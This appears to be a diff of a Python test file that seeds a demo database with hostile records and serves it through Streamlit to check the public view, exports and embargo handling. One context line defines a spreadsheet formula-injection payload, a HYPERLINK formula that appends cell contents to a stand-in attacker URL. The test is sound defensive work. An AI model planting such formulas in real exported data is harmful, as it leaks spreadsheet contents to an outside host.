@@ -14,8 +14,8 @@ from datetime import date, datetime, timedelta
 from pathlib import Path
 
 from conftest import ROOT, free_port, wait_for_http
-from partners.domain.model import SYSTEM, Commitment, ProgressUpdate, ReviewState, Visibility
-from partners.services import records, workflow
+from partners.domain.model import SYSTEM, Actor, Commitment, ProgressUpdate, ReviewState, Role, Visibility
+from partners.services import read, records, workflow
 from partners.storage import open_store
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example"&A1,"click")'
@@ -35,6 +35,7 @@ class Hostile:
     dde: int
     links: int
     embargoed: int
+    public_commitments: int  # the headline count the public sees (the embargoed one left out)
 
 
 def build(demo_db_path: Path, target: Path) -> Hostile:
@@ -60,16 +61,19 @@ def build(demo_db_path: Path, target: Path) -> Hostile:
         version = int(store.get_row("commitment", links)["version"])
         workflow.transition(store, SYSTEM, links, ReviewState.VERIFIED, version, reason=LINK_REASON)
         embargoed = log(EMBARGOED_TITLE, embargo_until=datetime.now() + timedelta(days=30))
+        public_commitments = read.headline(store, Actor(identity="anonymous", role=Role.PUBLIC))["commitments"]
     finally:
         store.close()
-    return Hostile(target, formula, dde, links, embargoed)
+    return Hostile(target, formula, dde, links, embargoed, public_commitments)
 
 
 @contextmanager
 def serve(db: Path, work: Path, *, public: bool = False) -> Iterator[str]:
     """`streamlit run streamlit_app.py` on a free loopback port against ``db``: local mode (one user, an
-    administrator), or with ``public`` sign-in configured and nobody signed in (the public's view)."""
+    administrator), or with ``public`` sign-in configured and nobody signed in (the public's view). The
+    server gets its own copy of ``db`` (DuckDB lets one process hold a file)."""
     port = free_port()
+    db = Path(shutil.copy(db, work / f"served-{port}.duckdb"))
     secrets = work / f"secrets-{port}.toml"
     secrets.write_text(
         "[auth]\n"
